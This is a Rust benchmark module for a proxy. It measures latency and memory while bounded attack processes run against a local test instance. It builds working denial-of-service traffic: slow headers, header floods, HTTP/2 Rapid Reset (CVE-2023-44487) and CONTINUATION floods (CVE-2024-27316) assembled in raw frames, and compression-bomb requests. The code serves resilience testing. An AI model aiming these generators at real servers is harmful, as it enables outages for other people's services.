//! What idle and hostile clients cost the others: their p99, and the proxy's memory.
//!
//! A polite client asks at a constant rate, by itself and beside each attack. An attack is a process of its own and is bounded:
//! so many connections, so many acts a second. Past its share of two cores it would measure the scheduler.

use std::net::SocketAddr;
use std::path::PathBuf;
use std::process::Stdio;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context as _, ensure};
use clap::ValueEnum;
use rustls_pki_types::ServerName;
use tokio::io::{AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::process::Command;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

use crate::contender::{Contender, Stage, start, start_role};
use crate::http1::Http1;
use crate::load::{Point, around};
use crate::scenario::{Figures, Scenario, keep_alive};
use crate::support::{self, Table, time};
use crate::{HOST, certificates};

/// Handshakes at once while tunnels are opened.
const OPENERS: usize = 16;

#[derive(clap::Args)]
pub(crate) struct Args {
    /// How long each point is measured, in seconds
    #[arg(long, default_value = "8", value_parser = crate::seconds)]
    seconds: Duration,
    /// How often each point is measured; the table has the medians
    #[arg(long, default_value_t = 3)]
    rounds: usize,
    /// Requests a second of the polite client
    #[arg(long, default_value_t = 100)]
    rate: u32,
    /// Tunnels that lie idle
    #[arg(long, default_value_t = 10_000)]
    tunnels: usize,
    /// Connections of an attack
    #[arg(long, default_value_t = 50)]
    attackers: usize,
    /// Acts a second of an attack, over all its connections
    #[arg(long, default_value_t = 100)]
    acts: u32,
    /// This attack alone
    #[arg(long)]
    only: Option<Kind>,
}

/// What an attacker with a good lease does.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
enum Kind {
    /// Tunnels with their TLS, and nothing in them
    Idle,
    /// Heads that come a byte at a time
    SlowHeads,
    /// Heads of 60 KiB in 90 fields
    HeaderFlood,
    /// HTTP/2 requests that are reset at once (CVE-2023-44487)
    RapidReset,
    /// HTTP/2 headers that never end (CVE-2024-27316)
    Continuations,
    /// Answers that unpack to a thousand times their size
    Bombs,
}

#[derive(clap::Args)]
pub(crate) struct AttackArgs {
    #[arg(long)]
    kind: Kind,
    #[arg(long)]
    proxy: SocketAddr,
    #[arg(long)]
    ca: PathBuf,
    #[arg(long)]
    port: u16,
    #[arg(long)]
    lease: String,
    #[arg(long)]
    connections: usize,
    #[arg(long)]
    acts: u32,
}

/// Measures all attacks and prints the table.
pub(crate) async fn run(args: &Args) -> anyhow::Result<()> {
    ensure!(args.rounds > 0, "no round, no figure");
    let home = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR"))?;
    let dir = home.path();
    certificates::generate(dir, "upstream")?;
    let (_upstream, upstream) = start_role("upstream", dir, &[]).await?;
    let stage = Stage { dir, upstream };
    let most = (args.tunnels + 1_000).to_string();
    let settings = [
        ("CLAVIGER_LIMITS_TUNNELS_PER_AGENT", most.as_str()),
        ("CLAVIGER_LIMITS_TUNNELS_PER_ORG", most.as_str()),
        ("CLAVIGER_LIMITS_CONNECTIONS", most.as_str()),
    ];
    let claviger = Contender::claviger(&stage, "claviger", "hostile", &settings).await?;
    println!(
        "{}; {}/s over 16 connections beside {} attackers with {} acts/s; {} rounds of {:?}\n",
        support::machine(),
        args.rate,
        args.attackers,
        args.acts,
        args.rounds,
        args.seconds
    );
    let polite = Scenario {
        rate: Some(args.rate),
        ..keep_alive("polite", 16)
    };
    let mut table = Table::new(
        1,
        &[
            "beside", "p50", "p99", "of alone", "memory", "grown by", "errors",
        ],
    );
    let kinds = Kind::value_variants().iter();
    for kind in kinds.filter(|kind| args.only.is_none_or(|only| only == **kind)) {
        let (mut alone, mut beside) = (Vec::new(), Vec::new());
        for _ in 0..args.rounds {
            alone.push(claviger.measure(&polite, upstream, args.seconds).await?);
            let attack = attack(args, *kind, &claviger, upstream).await?;
            beside.push(claviger.measure(&polite, upstream, args.seconds).await?);
            drop(attack);
        }
        table.row(row(args, *kind, &alone, &beside));
    }
    println!("{table}");
    Ok(())
}

fn row(args: &Args, kind: Kind, alone: &[Point], beside: &[Point]) -> Vec<String> {
    let (before, after) = (Figures::of(alone), Figures::of(beside));
    let resident = |points: &[Point]| {
        points
            .iter()
            .map(|point| point.resident_kib)
            .max()
            .unwrap_or(0)
    };
    // Of the first point alone: later ones have what an attack before them left.
    let grown =
        resident(beside).saturating_sub(alone.first().map_or(0, |point| point.resident_kib));
    let name = kind
        .to_possible_value()
        .map_or_else(String::new, |name| name.get_name().to_owned());
    let of_seconds = |seconds: f64| time(Duration::from_secs_f64(seconds));
    vec![
        name,
        of_seconds(after.p50),
        of_seconds(after.p99),
        format!("{:.2}", after.p99 / before.p99),
        format!("{} MiB", resident(beside) / 1024),
        if kind == Kind::Idle {
            format!("{} KiB each", grown / args.tunnels.max(1) as u64)
        } else {
            format!("{} MiB", grown / 1024)
        },
        after.errors.to_string(),
    ]
}

/// Starts an attack; back once it is under way. It ends when what this gives is dropped.
async fn attack(
    args: &Args,
    kind: Kind,
    claviger: &Contender,
    upstream: SocketAddr,
) -> anyhow::Result<tokio::process::Child> {
    let name = kind.to_possible_value().context("a kind has a name")?;
    let connections = if kind == Kind::Idle {
        args.tunnels
    } else {
        args.attackers
    };
    let mut command = Command::new(std::env::current_exe()?);
    command.arg("attack").arg("--ca").arg(&claviger.ca);
    for (option, value) in [
        ("--kind", name.get_name().to_owned()),
        ("--proxy", claviger.address.to_string()),
        ("--port", upstream.port().to_string()),
        ("--lease", claviger.lease.clone()),
        ("--connections", connections.to_string()),
        ("--acts", args.acts.to_string()),
    ] {
        command.args([option, &value]);
    }
    command.stdin(Stdio::piped());
    let (process, _) = start(command).await.context("the attack")?;
    Ok(process)
}

/// Attacks until its future is dropped.
pub(crate) async fn attack_for_ever(args: AttackArgs) -> anyhow::Result<()> {
    let attacker = Arc::new(Attacker::new(args)?);
    let mut under_way = JoinSet::new();
    if attacker.args.kind == Kind::Idle {
        let tunnels = attacker.idle().await?;
        println!("{} tunnels", tunnels.len());
        std::future::pending::<()>().await;
    }
    for _ in 0..attacker.args.connections {
        let attacker = Arc::clone(&attacker);
        under_way.spawn(async move { attacker.go_on().await });
    }
    println!("under way");
    std::future::pending().await
}

struct Attacker {
    args: AttackArgs,
    tls: TlsConnector,
    connect: String,
}

impl Attacker {
    fn new(args: AttackArgs) -> anyhow::Result<Self> {
        let mut config = Arc::unwrap_or_clone(certificates::client(&args.ca)?);
        if matches!(args.kind, Kind::RapidReset | Kind::Continuations) {
            config.alpn_protocols = vec![b"h2".to_vec()];
        }
        let (port, lease) = (args.port, &args.lease);
        Ok(Self {
            tls: TlsConnector::from(Arc::new(config)),
            connect: format!(
                "CONNECT {HOST}:{port} HTTP/1.1\r\nhost: {HOST}:{port}\r\nproxy-authorization: Bearer {lease}\r\n\r\n"
            ),
            args,
        })
    }

    async fn open(&self) -> anyhow::Result<TlsStream<TcpStream>> {
        let tcp = TcpStream::connect(self.args.proxy).await?;
        let mut plain = Http1::new(tcp);
        plain.send(self.connect.as_bytes(), 0).await?;
        let status = plain.response().await?.status;
        ensure!(status == 200, "status {status} to CONNECT");
        let name = ServerName::try_from(HOST)?;
        Ok(self.tls.connect(name, plain.into_inner()).await?)
    }

    async fn idle(self: &Arc<Self>) -> anyhow::Result<Vec<TlsStream<TcpStream>>> {
        let mut openers = JoinSet::new();
        for opener in 0..OPENERS {
            let attacker = Arc::clone(self);
            openers.spawn(async move {
                let mut tunnels = Vec::new();
                for _ in (opener..attacker.args.connections).step_by(OPENERS) {
                    tunnels.push(attacker.open().await?);
                }
                anyhow::Ok(tunnels)
            });
        }
        let mut all = Vec::new();
        while let Some(tunnels) = openers.join_next().await {
            all.extend(tunnels??);
        }
        Ok(all)
    }

    /// One connection after the other, each until the proxy has had enough of it, with random times between their acts.
    async fn go_on(&self) {
        let connections = u32::try_from(self.args.connections).unwrap_or(u32::MAX);
        let mean = Duration::from_secs(1) * connections / self.args.acts.max(1);
        loop {
            sleep(around(mean)).await;
            let Ok(mut io) = self.open().await else {
                continue;
            };
            let mut act = Act::new(self.args.kind, self.args.port);
            // What it says is read away, so that it never waits for its reader.
            let (mut read, mut write) = tokio::io::split(&mut io);
            let reads = async {
                let mut chunk = vec![0; 64 * 1024];
                while read.read(&mut chunk).await.is_ok_and(|count| count > 0) {}
            };
            let writes = async {
                while act.once(&mut write).await.is_ok() {
                    sleep(around(mean)).await;
                }
            };
            tokio::select! {
                () = reads => {}
                () = writes => {}
            }
        }
    }
}

/// What is done once in a while on one connection.
struct Act {
    kind: Kind,
    port: u16,
    done: u32,
}

impl Act {
    const fn new(kind: Kind, port: u16) -> Self {
        Self {
            kind,
            port,
            done: 0,
        }
    }

    async fn once(&mut self, io: &mut (impl AsyncWrite + Unpin)) -> anyhow::Result<()> {
        let bytes = match self.kind {
            Kind::Idle => Vec::new(),
            Kind::SlowHeads => self.slow_head(),
            Kind::HeaderFlood => self.many_fields(),
            Kind::RapidReset => self.reset_at_once(),
            Kind::Continuations => self.continuation(),
            Kind::Bombs => format!(
                "GET /bomb HTTP/1.1\r\nhost: {HOST}:{}\r\naccept-encoding: gzip\r\nauthorization: Bearer placeholder\r\n\r\n",
                self.port
            )
            .into_bytes(),
        };
        self.done += 1;
        timeout(Duration::from_secs(5), io.write_all(&bytes)).await??;
        io.flush().await?;
        Ok(())
    }

    fn slow_head(&self) -> Vec<u8> {
        if self.done == 0 {
            b"GET /bytes/1 HTTP/1.1\r\nx-slow: ".to_vec()
        } else {
            b"a".to_vec()
        }
    }

    fn many_fields(&self) -> Vec<u8> {
        let mut head = format!(
            "GET /bytes/1 HTTP/1.1\r\nhost: {HOST}:{}\r\nauthorization: Bearer placeholder\r\n",
            self.port
        );
        for field in 0..90 {
            head.extend([
                "x-field-",
                &field.to_string(),
                ": ",
                &"v".repeat(650),
                "\r\n",
            ]);
        }
        head.push_str("\r\n");
        head.into_bytes()
    }

    fn reset_at_once(&self) -> Vec<u8> {
        let mut bytes = self.preface();
        // Ten requests an act: 1,000 resets a second of 100 acts.
        for request in 0..10 {
            let stream = (self.done * 10 + request) * 2 + 1;
            bytes.extend(frame(
                HEADERS,
                END_STREAM | END_HEADERS,
                stream,
                &self.request(),
            ));
            bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        }
        bytes
    }

    fn continuation(&self) -> Vec<u8> {
        let mut bytes = self.preface();
        if self.done == 0 {
            bytes.extend(frame(HEADERS, 0, 1, &self.request()));
        }
        // A literal field without indexing, of a name and a value of its own (RFC 7541 section 6.2.2).
        let mut field = vec![0, 3, b'x', b'-', b'a', 100];
        field.extend([b'v'; 100]);
        bytes.extend(frame(CONTINUATION, 0, 1, &field.repeat(100)));
        bytes
    }

    fn preface(&self) -> Vec<u8> {
        if self.done > 0 {
            return Vec::new();
        }
        let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        bytes.extend(frame(SETTINGS, 0, 0, &[]));
        bytes
    }

    /// GET, https, `/` and the authority, in HPACK (RFC 7541, appendix A).
    fn request(&self) -> Vec<u8> {
        let authority = format!("{HOST}:{}", self.port);
        let mut block = vec![0x82, 0x87, 0x84, 0x01];
        block.push(u8::try_from(authority.len()).unwrap_or(0));
        block.extend(authority.as_bytes());
        block
    }
}

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// A frame of HTTP/2 (RFC 9113 section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}
